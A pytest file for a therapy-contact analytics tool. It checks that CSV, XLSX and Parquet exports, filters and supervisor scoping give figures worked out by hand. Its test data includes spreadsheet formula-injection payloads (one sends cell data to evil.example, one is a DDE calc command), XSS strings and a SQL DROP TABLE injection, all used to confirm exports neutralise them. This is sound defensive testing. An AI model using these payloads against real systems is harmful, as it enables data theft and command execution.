"""Exports (analytics.output.exports and ``contactload export``) against figures worked out by hand.

The fixture is tests/data/fixture_contacts.csv; contact numbers #1..#25 and the local
times are listed in the docstring of tests/test_metrics.py. Hostile labels (formulas,
HTML, SQL) are stored through the real storage path and must come out as text.
"""

import csv
import io
import re
import zipfile
from pathlib import Path

import duckdb
import pandas as pd
import pytest

from analytics.access.filters import ContactFilter
from analytics.access.scope import LOCAL, Scope
from analytics.errors import ContactLoadError, InvalidFilterError
from analytics.output.exports import (
    ExportError,
    export_bytes,
    export_contacts,
    neutralise_frame,
    table_to_csv,
    table_to_xlsx,
)
from analytics.storage import audit
from analytics.storage.database import Database
from analytics.storage.store import add_contacts
from tests.test_cli import run

HOSTILE_LABELS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-3+cmd",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
    "<script>window.__pwned = 1</script>",
    '<img src=x onerror="window.__pwned=1">',
    "Robert'); DROP TABLE contacts;--",
    "Plain Name",
)
HOSTILE_PRACTICE = "=cmd|' /C calc'!A0"


def add_hostile(db: Database) -> None:
    """One 10-minute phone contact per hostile label, a day apart, in a hostile practice."""
    frame = pd.DataFrame(
        {
            "practice": HOSTILE_PRACTICE,
            "therapist": "@Therapist",
            "time_zone": "Europe/Berlin",
            "client": list(HOSTILE_LABELS),
            "started_at": [
                f"2026-05-{day:02d}T09:00:00+02:00" for day in range(4, 4 + len(HOSTILE_LABELS))
            ],
            "minutes": 10,
            "channel": "phone",
            "category": "support",
            "direction": "client",
        }
    )
    add_contacts(db, frame, source="test", file_name="hostile.csv")


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def xlsx_cells(data: bytes) -> tuple[list[str], str]:
    """Every text of an XLSX workbook (inline and shared strings) and the sheet's XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        shared = (
            book.read("xl/sharedStrings.xml").decode("utf-8")
            if "xl/sharedStrings.xml" in book.namelist()
            else ""
        )
    texts = re.findall(r"<t(?: [^>]*)?>(.*?)</t>", sheet + shared, flags=re.S)
    unescaped = [
        text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", '"').replace("&amp;", "&")
        for text in texts
    ]
    return unescaped, sheet


# --- contents, by hand ------------------------------------------------------------------


def test_csv_export_holds_every_contact_with_local_fields(
    fixture_db: Database, tmp_path: Path
) -> None:
    out = tmp_path / "contacts.csv"
    result = export_contacts(fixture_db, ContactFilter(), out)
    rows = read_csv(out)
    # 25 contacts, 400 minutes (per client: 160 + 95 + 70 + 30 + 20 + 15 + 10)
    assert result.contacts == 25 and len(rows) == 25
    assert sum(float(row["minutes"]) for row in rows) == 400
    # never free text, never a column the brief does not name
    assert list(rows[0]) == [
        "practice",
        "therapist",
        "client_key",
        "client",
        "started_at_utc",
        "local_started_at",
        "local_date",
        "weekday",
        "hour",
        "time_known",
        "minutes",
        "channel",
        "category",
        "direction",
        "after_hours",
        "batch_id",
    ]
    # #9 Avery: Tue 2026-03-31 23:30 EDT (-04:00) = Wed 2026-04-01 03:30 UTC; after hours
    avery = [row for row in rows if row["started_at_utc"] == "2026-04-01 03:30:00"]
    assert len(avery) == 1
    assert avery[0]["client"] == "Avery"
    assert avery[0]["local_date"] == "2026-03-31"
    assert avery[0]["weekday"] == "Tuesday"
    assert avery[0]["hour"] == "23"
    assert avery[0]["after_hours"] == "true"
    # #20 Finn: Mon 2026-03-30 18:30 CEST (+02:00, a day after the EU switch) = 16:30 UTC
    finn = [row for row in rows if row["started_at_utc"] == "2026-03-30 16:30:00"]
    assert [(row["local_started_at"], row["after_hours"]) for row in finn] == [
        ("2026-03-30 18:30:00", "true")
    ]
    # #19 Finn: Fri 2026-03-27 17:30 CET (+01:00) = 16:30 UTC, inside 08:00-18:00
    finn = [row for row in rows if row["started_at_utc"] == "2026-03-27 16:30:00"]
    assert [(row["hour"], row["after_hours"]) for row in finn] == [("17", "false")]
    # after hours (default Mon-Fri 08:00-18:00): #2 15, #4 10, #6 5, #7 40, #9 15, #14 5,
    # #15 10, #20 15, #21 10, #22 5, #23 10 = 11 contacts, 140 minutes
    late = [row for row in rows if row["after_hours"] == "true"]
    assert len(late) == 11
    assert sum(float(row["minutes"]) for row in late) == 140


def test_export_filters_by_local_dates_and_therapist(fixture_db: Database, tmp_path: Path) -> None:
    out = tmp_path / "april.csv"
    export_contacts(
        fixture_db, ContactFilter(start=pd.Timestamp("2026-04-01").date(), end=None), out
    )
    rows = read_csv(out)
    # local dates on or after 04-01: #10 04-02 15, #11 04-06 10, #17 04-07 5, #23 04-01 10
    # (Berlin 00:30); #9 is 04-01 in UTC but 03-31 in New York, so it stays out: 40 minutes
    assert len(rows) == 4
    assert sum(float(row["minutes"]) for row in rows) == 40
    assert "2026-04-01 03:30:00" not in {row["started_at_utc"] for row in rows}

    with fixture_db.cursor() as cursor:
        (jonas,) = cursor.execute(
            "SELECT therapist_id FROM therapists WHERE name = 'Jonas Weber'"
        ).fetchone() or (0,)
    out = tmp_path / "jonas.csv"
    result = export_contacts(fixture_db, ContactFilter(therapist_ids=(jonas,)), out)
    # Jonas Weber: #18 30, #19 20, #20 15, #21 10, #22 5, #23 10, #24 15, #25 20 = 125
    assert result.contacts == 8
    assert sum(float(row["minutes"]) for row in read_csv(out)) == 125


def test_supervisor_export_has_keys_only_and_their_practices(
    fixture_db: Database, tmp_path: Path
) -> None:
    with fixture_db.cursor() as cursor:
        (lindenhof,) = cursor.execute(
            "SELECT practice_id FROM practices WHERE name = 'Lindenhof Praxis'"
        ).fetchone() or (0,)
    supervisor = Scope.supervisor("sup@example.org", (lindenhof,))
    out = tmp_path / "supervised.csv"
    export_contacts(fixture_db, ContactFilter(scope=supervisor), out)
    rows = read_csv(out)
    assert "client" not in rows[0]  # no labels for supervisors
    labels = {"Finn", "Greta", "Avery"}
    assert not labels & set(out.read_text(encoding="utf-8").replace(",", " ").split())
    # Lindenhof Praxis: Finn 95 + Greta 30 = 125 minutes in 8 contacts
    assert len(rows) == 8
    assert {row["practice"] for row in rows} == {"Lindenhof Praxis"}
    assert sum(float(row["minutes"]) for row in rows) == 125
    entries = audit.entries(fixture_db, supervisor)
    assert list(entries["action"]) == ["export"]
    assert "8 contacts as csv" in entries["detail"].iloc[0]


def test_nobody_exports_nothing(fixture_db: Database, tmp_path: Path) -> None:
    out = tmp_path / "nothing.csv"
    result = export_contacts(fixture_db, ContactFilter(scope=Scope.nobody("x")), out)
    assert result.contacts == 0
    assert read_csv(out) == []


# --- spreadsheet safety -----------------------------------------------------------------


def test_csv_neutralises_formulas_and_keeps_the_text(empty_db: Database, tmp_path: Path) -> None:
    add_hostile(empty_db)
    out = tmp_path / "hostile.csv"
    export_contacts(empty_db, ContactFilter(), out)
    rows = read_csv(out)
    clients = [row["client"] for row in rows]
    for label in HOSTILE_LABELS:
        if label[0] in "=+-@\t\r":
            assert "'" + label in clients, label
            assert label not in clients
        else:
            assert label in clients, label  # HTML and SQL are plain text, unchanged
    assert {row["practice"] for row in rows} == {"'" + HOSTILE_PRACTICE}
    assert {row["therapist"] for row in rows} == {"'@Therapist"}
    # numbers are not text: 10 contacts x 10 minutes, none prefixed
    assert sum(float(row["minutes"]) for row in rows) == 100
    # the stored labels are untouched (the prefix is added on the way out)
    with empty_db.cursor() as cursor:
        stored = {row[0] for row in cursor.execute("SELECT label FROM clients").fetchall()}
    assert stored == set(HOSTILE_LABELS)


def test_xlsx_cells_are_values_with_the_text_kept(empty_db: Database, tmp_path: Path) -> None:
    add_hostile(empty_db)
    out = tmp_path / "hostile.xlsx"
    result = export_contacts(empty_db, ContactFilter(), out)
    assert result.contacts == 10
    texts, sheet = xlsx_cells(out.read_bytes())
    assert "<f>" not in sheet and "<f " not in sheet  # no formula anywhere
    for label in HOSTILE_LABELS:
        expected = "'" + label if label[0] in "=+-@\t\r" else label
        if label[0] == "\r":
            # XML normalises a bare carriage return; XlsxWriter escapes it as _x000D_
            expected = "'_x000D_" + label[1:]
        assert expected in texts, label
    assert "'" + HOSTILE_PRACTICE in texts


def test_parquet_keeps_text_verbatim_and_partitions_by_practice_and_month(
    fixture_db: Database, tmp_path: Path
) -> None:
    add_hostile(fixture_db)
    single = tmp_path / "contacts.parquet"
    export_contacts(fixture_db, ContactFilter(), single)
    labels = {
        row[0] for row in duckdb.sql(f"SELECT client FROM read_parquet('{single}')").fetchall()
    }
    assert set(HOSTILE_LABELS) <= labels  # a data format for engines: text exactly as stored

    folder = tmp_path / "lake"
    folder.mkdir()
    result = export_contacts(fixture_db, ContactFilter(), folder)
    assert result.partitioned and result.format == "parquet"
    files = sorted(path.relative_to(folder).parent.as_posix() for path in folder.rglob("*.parquet"))
    # fixture: practice 1 (Harbor) and 2 (Lindenhof) in local March and April 2026;
    # the hostile practice (3) in May 2026
    assert files == [
        "practice_id=1/year=2026/month=3",
        "practice_id=1/year=2026/month=4",
        "practice_id=2/year=2026/month=3",
        "practice_id=2/year=2026/month=4",
        "practice_id=3/year=2026/month=5",
    ]
    per_month = duckdb.sql(
        f"SELECT practice_id, month, count(*), sum(minutes) FROM read_parquet("
        f"'{folder}/**/*.parquet', hive_partitioning = true) GROUP BY ALL ORDER BY ALL"
    ).fetchall()
    # Harbor March: #1-#9 (#9 is local 03-31) and #12-#16 = 14 contacts,
    #   20+15+25+10+30+5+40+10+15 + 15+20+5+10+25 = 245 minutes; April: #10 15, #11 10, #17 5
    # Lindenhof March: #18-#22, #24, #25 = 7 contacts, 30+20+15+10+5+15+20 = 115;
    #   April: #23 (Berlin 00:30 on 04-01) 10
    assert per_month == [
        (1, 3, 14, 245.0),
        (1, 4, 3, 30.0),
        (2, 3, 7, 115.0),
        (2, 4, 1, 10.0),
        (3, 5, 10, 100.0),
    ]


def test_page_tables_are_neutralised_in_csv_and_xlsx() -> None:
    frame = pd.DataFrame(
        {
            "client": ["=1+1", "-note", "Avery", "<b>x</b>"],
            "minutes": [-5.0, 10.0, 20.0, 0.0],
            "=formula header": [1, 2, 3, 4],
        }
    )
    safe = neutralise_frame(frame)
    assert list(safe["client"]) == ["'=1+1", "'-note", "Avery", "<b>x</b>"]
    assert list(safe["minutes"]) == [-5.0, 10.0, 20.0, 0.0]  # numbers stay numbers
    assert list(safe.columns) == ["client", "minutes", "'=formula header"]
    text = table_to_csv(frame).decode("utf-8")
    assert text.splitlines()[1] == "'=1+1,-5.0,1"
    texts, sheet = xlsx_cells(table_to_xlsx(frame))
    assert "<f>" not in sheet
    assert {"'=1+1", "'-note", "Avery", "<b>x</b>", "'=formula header"} <= set(texts)
    # the original frame is not changed
    assert frame["client"].iloc[0] == "=1+1"


# --- errors -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt", "message"),
    [
        ("contacts.txt", None, "Cannot export to 'txt'"),
        ("missing/contacts.csv", None, "does not exist"),
        ("contacts.csv", "csv", None),
    ],
)
def test_export_errors_are_one_sentence(
    fixture_db: Database, tmp_path: Path, name: str, fmt: str | None, message: str | None
) -> None:
    if message is None:
        with pytest.raises(ExportError, match="Only Parquet"):
            export_contacts(fixture_db, ContactFilter(), tmp_path / name, fmt, partitioned=True)
        return
    with pytest.raises(ExportError, match=message) as caught:
        export_contacts(fixture_db, ContactFilter(), tmp_path / name, fmt)
    assert isinstance(caught.value, ContactLoadError)
    assert str(caught.value).endswith(".")


# --- command line -----------------------------------------------------------------------


def private_copy(fixture_db_path: Path, folder: Path) -> Path:
    """A copy of the shared fixture file (an export writes its audit entry)."""
    import shutil

    folder.mkdir()
    shutil.copy(fixture_db_path, folder / "contactload.duckdb")
    shutil.copy(fixture_db_path.parent / ".contactload-secret", folder)
    return folder / "contactload.duckdb"


def test_cli_export_csv_with_filters(fixture_db_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "dana.csv"
    result = run(
        "export",
        "--db",
        private_copy(fixture_db_path, tmp_path / "db"),
        "--format",
        "csv",
        "--out",
        out,
        "--therapist",
        "Dana Reyes",
        "--channel",
        "phone",
        cwd=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    # Dana Reyes by phone: #1 20, #5 30, #7 40 = 3 contacts, 90 minutes
    assert "Exported 3 contacts as csv" in result.stdout
    rows = read_csv(out)
    assert sum(float(row["minutes"]) for row in rows) == 90


def test_cli_export_unknown_therapist_is_one_line(fixture_db_path: Path, tmp_path: Path) -> None:
    result = run(
        "export",
        "--db",
        private_copy(fixture_db_path, tmp_path / "db"),
        "--out",
        tmp_path / "x.xlsx",
        "--therapist",
        "Nobody Here",
        cwd=tmp_path,
    )
    assert result.returncode == 1
    assert result.stderr.strip().splitlines() == [
        "contactload: There is no therapist called 'Nobody Here'; check the spelling or import "
        "their contacts first."
    ]
    assert not (tmp_path / "x.xlsx").exists()


def test_filter_values_are_allow_listed() -> None:
    with pytest.raises(InvalidFilterError, match="Unknown channel"):
        ContactFilter(channels=("phone'; DROP TABLE contacts;--",))


def test_local_scope_is_default() -> None:
    assert ContactFilter().scope == LOCAL


def test_export_bytes_for_a_download_button(fixture_db: Database) -> None:
    data = export_bytes(fixture_db, ContactFilter(channels=("video",)), "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    # video: #3 25, #10 15, #13 20, #18 30 = 4 contacts, 90 minutes
    assert len(rows) == 4
    assert sum(float(row["minutes"]) for row in rows) == 90
    assert data[:2] == b"pr"  # CSV text, not a zip
    assert export_bytes(fixture_db, ContactFilter(), "xlsx")[:2] == b"PK"  # an XLSX zip
    # newest first, after the fixture's own audited import
    assert list(audit.entries(fixture_db, LOCAL)["action"]) == ["export", "export", "import"]
    with pytest.raises(ExportError, match="Cannot export to 'pdf'"):
        export_bytes(fixture_db, ContactFilter(), "pdf")


def test_overview_offers_the_contacts_export(
    fixture_db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import shutil

    from streamlit.testing.v1 import AppTest

    # a private copy: the app keeps its database open for the rest of the test session
    shutil.copy(fixture_db_path, tmp_path / "contactload.duckdb")
    shutil.copy(fixture_db_path.parent / ".contactload-secret", tmp_path)
    monkeypatch.setenv("CONTACTLOAD_DB", str(tmp_path / "contactload.duckdb"))
    app = AppTest.from_file(str(Path(__file__).resolve().parent.parent / "app.py"))
    app.run(timeout=60)
    assert not app.exception, [exception.message for exception in app.exception]
    labels = [button.proto.label for button in app.get("download_button")]
    assert labels[-2:] == ["Export contacts (CSV)", "Export contacts (XLSX)"]
